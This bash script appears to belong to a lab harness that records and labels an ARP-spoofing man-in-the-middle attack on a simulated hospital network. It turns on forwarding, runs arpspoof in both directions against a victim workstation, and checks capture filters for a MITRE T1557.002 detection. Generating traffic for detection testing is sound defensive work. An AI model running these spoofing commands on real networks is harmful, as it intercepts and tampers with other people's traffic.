#!/bin/bash
# Somebody takes the place of another.
# shellcheck source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
# shellcheck source=services.sh
source "$RECORD_DIR/services.sh"

ATTACKER=10.20.1.66

record_arp_spoof() {
    begin arp-spoof attack "One workstation tells another by ARP that it is the router, and the router that it is the workstation (arpspoof both ways), and passes the traffic on. The victim goes on browsing and notices nothing; at the end the attacker puts everything right again."
    programs dsniff curl nginx-light
    hospital clients servers
    host attacker clients $ATTACKER
    host victim clients 10.20.1.21
    host other clients 10.20.1.22
    host web servers 10.20.2.80
    nginx_on web 10.20.2.80
    in_host attacker sysctl -q -w net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
    capture clients
    must victim curl -s -o /dev/null http://10.20.2.80/page1.html
    must other curl -s -o /dev/null http://10.20.2.80/page1.html
    LIMIT=12 run attacker timeout -s INT 11 arpspoof -i eth0 -t 10.20.1.21 -r 10.20.1.1 &
    local spoofing=$!
    sleep 2
    shell victim "for i in {1..6}; do curl -s -m 2 -o /dev/null http://10.20.2.80/page1.html; sleep 1; done"
    wait $spoofing || true
    sleep 6
    must victim curl -s -o /dev/null http://10.20.2.80/page1.html
    expect "{technique: T1557.002, actor: $ATTACKER, kind: arp poisoning, targets: 2}"
    contains "arp.opcode == 2 && arp.src.hw_mac == $(mac_of $ATTACKER) && arp.src.proto_ipv4 == 10.20.1.1" -ge 4
    contains "arp.opcode == 2 && arp.src.hw_mac == $(mac_of $ATTACKER) && arp.src.proto_ipv4 == 10.20.1.21" -ge 4
    contains "ip.src == 10.20.1.21 && eth.src == $(mac_of $ATTACKER)" -ge 10
    finish
}

main "$@"
